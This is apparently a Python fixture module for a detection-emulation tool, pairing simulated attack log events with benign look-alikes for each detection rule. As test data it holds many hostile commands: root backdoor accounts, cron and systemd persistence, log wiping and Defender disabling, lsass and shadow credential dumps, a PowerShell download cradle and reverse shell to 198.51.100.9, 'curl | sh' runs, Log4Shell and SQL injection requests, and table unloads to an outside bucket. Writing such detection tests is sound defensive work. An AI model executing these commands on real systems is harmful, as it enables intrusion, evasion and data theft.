"""Steps by which somebody stays on a host, blinds it, or takes what it holds; and what servers and warehouses tell."""

import json
from typing import Any, Final

from caponier.emulate.attack_steps.attack_step import DESK, THIEF, AttackStep, Row, line, process, requested, written
from caponier.emulate.office import HOST

_SYSTEM: Final = "C:\\Windows\\System32\\"
_DROP: Final = "'s3://drop/f/'"


def _windows(channel: str, number: int, **data: Any) -> Row:
    return {"Channel": channel, "EventID": number, "Computer": HOST, "TimeCreated": None, **data}


def _member(group: str, sid: str, number: int = 4732) -> Row:
    return _windows("Security", number, SubjectUserName="bob", TargetUserName=group, TargetSid=sid, MemberSid="S-1-5-9")


def _task(name: str, command: str) -> Row:
    return _windows("Security", 4698, SubjectUserName="bob", TaskName=name, TaskContent=command)


def _service(path: str) -> Row:
    return _windows("System", 7045, ServiceName="x", ImagePath=path, AccountName="LocalSystem")


def _opened(source: str, access: str) -> Row:
    return _windows(
        "Microsoft-Windows-Sysmon/Operational", 10, SourceImage=source, GrantedAccess=access,
        TargetImage=f"{_SYSTEM}lsass.exe", User="CORP\\bob",
    )  # fmt: skip


def _set(key: str, value: str) -> Row:
    return _windows(
        "Microsoft-Windows-Sysmon/Operational", 13, EventType="SetValue", User="CORP\\bob", Details=value,
        TargetObject=f"HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\{key}",
    )  # fmt: skip


def _script(text: str) -> Row:
    return _windows("Microsoft-Windows-PowerShell/Operational", 4104, ScriptBlockText=text, AccountName="bob")


def _written(path: str, image: str = "/usr/bin/bash") -> Row:
    return {**written(path, user="bob"), "Image": image}


def _logged(program: str, message: str) -> Row:
    return {"sourcetype": "linux_secure", "event": f"<iso> {HOST} {program}[7]: {message}"}


def _docker(action: str) -> Row:
    told = {
        "Type": "container", "Action": action, "from": "serve:4", "timeNano": 1_767_668_400_000_000_000,
        "Actor": {"ID": "c", "Attributes": {"image": "serve:4", "name": "serve"}},
    }  # fmt: skip
    return line(json.dumps(told))


def _asked(statement: str, outcome: str = "SUCCESS") -> Row:
    return {
        "QUERY_TEXT": statement, "QUERY_TYPE": statement.split()[0], "USER_NAME": "eve", "START_TIME": None,
        "DATABASE_NAME": "i-0ml", "EXECUTION_STATUS": outcome,
    }  # fmt: skip


STAYED: Final = AttackStep(
    "an account or a task planted by a command",
    (
        (process("useradd -o -u 0 support", "/usr/sbin/useradd"),),
        (process("usermod -aG sudo support", "/usr/sbin/usermod"),),
        (process("net localgroup administrators eve /add", f"{_SYSTEM}net.exe"),),
        (process('schtasks /create /tn u /tr "powershell -f C:\\a.ps1" /sc minute', f"{_SYSTEM}schtasks.exe"),),
        (process("sh -c echo '* * * * * root /srv/k' >> /etc/cron.d/k"),),
        (process("tee -a /etc/systemd/system/k.service", "/usr/bin/tee"),),
        (process("cp /tmp/k /etc/cron.d/k", "/usr/bin/cp"),),
        (process("insmod /tmp/r.ko", "/usr/sbin/insmod"),),
        (process('sc create u binPath= "cmd /c C:\\a.exe"', f"{_SYSTEM}sc.exe"),),
    ),
    (
        (process("useradd -m -s /bin/bash carl", "/usr/sbin/useradd"),),
        (process("usermod -s /bin/zsh ada", "/usr/sbin/usermod"),),
        (process("net localgroup administrators", f"{_SYSTEM}net.exe"),),
        (process("schtasks /query /tn u", f"{_SYSTEM}schtasks.exe"),),
        (process("crontab -l", "/usr/bin/crontab"),),
        (process("tee -a /srv/models/etc/notes", "/usr/bin/tee"),),
        (process("cp /etc/systemd/system/serve.service /tmp/", "/usr/bin/cp"),),
        (process("modprobe nvidia", "/usr/sbin/modprobe"),),
    ),
)

START_FILE: Final = AttackStep(
    "a start file or a key written",
    (
        (_written("/home/ubuntu/.ssh/authorized_keys"),),
        (_written("/etc/ld.so.preload", "/usr/bin/tee"),),
        (_written("/etc/cron.d/k"),),
        (_written("/etc/systemd/system/k.service", "/usr/bin/cp"),),
        (_written("/etc/sudoers.d/90-x", "/usr/bin/vim"),),
    ),
    (
        (_written("/etc/cron.d/mdadm", "/usr/bin/dpkg"),),
        (_written("/home/ubuntu/.ssh/known_hosts"),),
        (_written("/etc/systemd/resolved.conf"),),
        (_written("/etc/cron.daily.bak"),),
    ),
)

BLINDED: Final = AttackStep(
    "the watch over a host switched off",
    (
        (process("systemctl stop auditd", "/usr/bin/systemctl"),),
        (process("auditctl -D", "/usr/sbin/auditctl"),),
        (process("sh -c shred -u /var/log/auth.log"),),
        (process("wevtutil cl Security", f"{_SYSTEM}wevtutil.exe"),),
        (process("powershell Set-MpPreference -DisableRealtimeMonitoring $true"),),
        (process("systemctl disable --now falcon-sensor", "/usr/bin/systemctl"),),
    ),
    (
        (process("systemctl restart auditd", "/usr/bin/systemctl"),),
        (process("auditctl -l", "/usr/sbin/auditctl"),),
        (process("rm -f /var/log/syslog.7.gz", "/usr/bin/rm"),),
        (process("systemctl stop jupyter", "/usr/bin/systemctl"),),
        (process("wevtutil qe Security", f"{_SYSTEM}wevtutil.exe"),),
        (process("systemctl status auditd", "/usr/bin/systemctl"),),
    ),
)

SECRETS: Final = AttackStep(
    "passwords or keys of a host read",
    (
        (process("cat /etc/shadow", "/usr/bin/cat"),),
        (process("tar czf /tmp/k.tgz /home/ada/.ssh /home/ada/.aws", "/usr/bin/tar"),),
        (process("procdump64 -ma lsass.exe l.dmp", "C:\\Tools\\procdump64.exe"),),
        (process("rundll32 comsvcs.dll, MiniDump 640 C:\\l.dmp full", f"{_SYSTEM}rundll32.exe"),),
        (process("reg save HKLM\\SAM C:\\s", f"{_SYSTEM}reg.exe"),),
        (process("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ml", "/usr/bin/curl"),),
    ),
    (
        (process("ls -l /etc/shadow", "/usr/bin/ls"),),
        (process("cat /etc/passwd", "/usr/bin/cat"),),
        (process("cat /home/ada/.ssh/id_ed25519.pub", "/usr/bin/cat"),),
        (process("curl http://169.254.169.254/latest/meta-data/instance-id", "/usr/bin/curl"),),
        (process("reg query HKLM\\Software", f"{_SYSTEM}reg.exe"),),
    ),
)

MEMBER: Final = AttackStep(
    "an administrator or a task of Windows planted",
    (
        (_member("Administrators", "S-1-5-32-544"),),
        (_member("Domain Admins", "S-1-5-21-1-2-3-512", 4728),),
        (_member("Administratoren", "S-1-5-32-544"),),
        (_windows("Security", 4720, SubjectUserName="bob", TargetUserName="helpdesk$"),),
        (_task("\\Upd", "<Exec><Command>powershell.exe</Command></Exec>"),),
    ),
    (
        (_member("Performance Log Users", "S-1-5-32-559"),),
        (_member("Administrators", "S-1-5-32-544", 4733),),
        (_task("\\Microsoft\\Windows\\Defrag", "<Exec><Command>cmd.exe</Command></Exec>"),),
        (_task("\\Backup", "<Exec><Command>C:\\Program Files\\B\\b.exe</Command></Exec>"),),
    ),
)

SERVICE: Final = AttackStep(
    "a service of Windows that runs a shell",
    (
        (_service("%COMSPEC% /c powershell -nop -enc SQBF"),),
        (_service("C:\\Users\\Public\\u.exe"),),
        (_service("\\\\127.0.0.1\\ADMIN$\\x.exe"),),
        (_windows("System", 104),),
    ),
    (
        (_service('"C:\\Program Files\\Edge\\update.exe" /svc'),),
        (_service(f"{_SYSTEM}drivers\\nvlddmkm.sys"),),
        (_windows("System", 7036, ServiceName="x"),),
    ),
)

CLEARED: Final = AttackStep(
    "the security log of Windows cleared",
    (
        (_windows("Security", 1102, SubjectUserName="bob"),),
        (_windows("Security", 4719, SubjectUserName="bob", AuditPolicyChanges="%%8448"),),
        (_windows("Security", 4719, SubjectUserName="bob", AuditPolicyChanges="%%8448, %%8450"),),
    ),
    (
        (_windows("Security", 4719, SubjectUserName="bob", AuditPolicyChanges="%%8449"),),
        (_windows("Security", 1100),),
        (_windows("Security", 4688, SubjectUserName="bob", NewProcessName=f"{_SYSTEM}wevtutil.exe"),),
    ),
)

MEMORY: Final = AttackStep(
    "the memory with credentials read",
    (
        (_opened("C:\\Users\\Public\\p.exe", "0x1410"),),
        (_opened("C:\\Tools\\procdump64.exe", "0x1fffff"),),
        (_opened("C:\\Users\\bob\\x.exe", "0x1010"),),
    ),
    (
        (_opened("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "0x1410"),),
        (_opened(f"{_SYSTEM}svchost.exe", "0x1010"),),
        (_opened("C:\\Users\\bob\\x.exe", "0x1000"),),
    ),
)

ENTRY: Final = AttackStep(
    "a start entry of Windows",
    (
        (_set("CurrentVersion\\Run\\u", "C:\\Users\\Public\\a.exe"),),
        (_set("CurrentVersion\\RunOnce\\u", "powershell -enc SQBF"),),
        (_set("CurrentVersion\\Policies\\Explorer\\Run\\u", "cmd /c C:\\a.bat"),),
    ),
    (
        (_set("CurrentVersion\\Run\\Teams", "C:\\Program Files\\Teams\\teams.exe"),),
        (_set("CurrentVersion\\Uninstall\\u", "cmd /c C:\\a.bat"),),
        (_set("CurrentVersion\\RunHistory\\u", "powershell"),),
    ),
)

SCRIPT: Final = AttackStep(
    "a script of PowerShell that runs foreign code",
    (
        (_script("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"),),
        (_script("$c = New-Object System.Net.Sockets.TCPClient('198.51.100.9',443);$s=$c.GetStream();iex $d"),),
        (_script("[Reflection.Assembly]::Load([Convert]::FromBase64String($b))"),),
        (_script("$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),),
    ),
    (
        (_script("irm https://astral.example/uv/install.ps1 | iex"),),
        (_script("Invoke-WebRequest http://198.51.100.9/data.zip -OutFile data.zip"),),
        (_script("iex (iwr http://10.8.0.9/setup.ps1)"),),
        (_script("[Convert]::FromBase64String($env:KEY)"),),
    ),
)

PLANTED: Final = AttackStep(
    "a user or a task planted, by the log of Linux",
    (
        (_logged("useradd", "new user: name=support, UID=1009, GID=1009, home=/home/s, shell=/bin/bash"),),
        (_logged("usermod", "add 'support' to group 'sudo'"),),
        (_logged("crontab", "(www-data) REPLACE (www-data)"),),
        (_logged("gpasswd", "user eve added by root to group docker"),),
    ),
    (
        (_logged("usermod", "add 'carl' to group 'plugdev'"),),
        (_logged("crontab", "(ada) LIST (ada)"),),
        (_logged("userdel", "delete user 'carl'"),),
    ),
)

JOINED: Final = AttackStep(
    "a shell in a container of Docker",
    (
        (_docker("exec_create: /bin/bash"),),
        (_docker("exec_start: sh -c curl http://198.51.100.9/x | sh"),),
        (_docker("attach"),),
    ),
    (
        (_docker("exec_create: /bin/sh -c curl -f http://localhost:8000/v2/health/ready || exit 1"),),
        (_docker("exec_create: nvidia-smi"),),
        (_docker("start"),),
    ),
)

EXPLOITED: Final = AttackStep(
    "an exploit that a web server answers",
    (
        (requested(THIEF, "GET", "/?x=${jndi:ldap://198.51.100.9/a}"),),
        (requested(THIEF, "GET", "/tasks?id=1%27%20UNION%20SELECT%201,user--"),),
        (requested(THIEF, "GET", "/preview?url=http://169.254.169.254/latest/"),),
        (requested(THIEF, "GET", "/u/cmd.php?cmd=whoami"),),
        (requested(THIEF, "GET", "/run?f=a;curl%20http://198.51.100.9/x"),),
    ),
    (
        (requested(THIEF, "GET", "/?x=${jndi:ldap://198.51.100.9/a}", 404),),
        (requested(DESK, "GET", "/?x=${jndi:ldap://10.8.0.9/q}"),),
        (requested(THIEF, "GET", "/tasks?q=union+jack+select"),),
        (requested(THIEF, "GET", "/v2/models/digits?cmd=show"),),
        (requested(THIEF, "GET", "/tasks?name=O%27Brien"),),
    ),
)

UNLOADED: Final = AttackStep(
    "tables unloaded from a warehouse",
    (
        (_asked(f"COPY INTO {_DROP} FROM i-0ml.PUBLIC.TRAIN CREDENTIALS=(AWS_KEY_ID='x')"),),
        (_asked(f"create or replace stage s url={_DROP}"),),
        (_asked("ALTER SHARE F ADD ACCOUNTS = XX1"),),
        (_asked("GRANT SELECT ON ALL TABLES IN SCHEMA P TO ROLE PUBLIC"),),
    ),
    (
        (_asked("COPY INTO @TRAIN_STAGE/d FROM PUBLIC.TRAIN"),),
        (_asked(f"COPY INTO {_DROP} FROM PUBLIC.TRAIN", "FAIL"),),
        (_asked("SELECT * FROM PUBLIC.TRAIN"),),
        (_asked("GRANT SELECT ON TABLE T TO ROLE ANALYST"),),
    ),
)

THROUGH: Final = AttackStep(
    "a command run through a database",
    (
        (_logged("postgres", "LOG:  statement: COPY (SELECT 1) TO PROGRAM 'curl http://198.51.100.9/x|sh'"),),
        (_logged("postgres", "LOG:  statement: create function f() returns int as '/tmp/libx.so', 'f' language c"),),
        (_logged("postgres", "LOG:  statement: ALTER ROLE eve WITH SUPERUSER"),),
        (_logged("mysqld", "SELECT '<?php' INTO OUTFILE '/var/www/x.php'"),),
    ),
    (
        (_logged("postgres", "LOG:  statement: COPY metrics TO STDOUT"),),
        (_logged("postgres", "LOG:  statement: SELECT program FROM runs"),),
        (_logged("postgres", "LOG:  statement: ALTER ROLE eve NOSUPERUSER"),),
        (_logged("cron", "copy to program"),),
    ),
)

STEPS: Final = {
    "host_persistence": STAYED,
    "host_start_file_written": START_FILE,
    "host_defence_off": BLINDED,
    "host_credentials_read": SECRETS,
    "windows_account_planted": MEMBER,
    "windows_service_planted": SERVICE,
    "windows_log_cleared": CLEARED,
    "windows_memory_read": MEMORY,
    "windows_start_entry": ENTRY,
    "windows_script_strange": SCRIPT,
    "linux_account_planted": PLANTED,
    "container_exec": JOINED,
    "web_exploit_answered": EXPLOITED,
    "warehouse_unloaded": UNLOADED,
    "database_runs_code": THROUGH,
}
"""By the rule's name."""
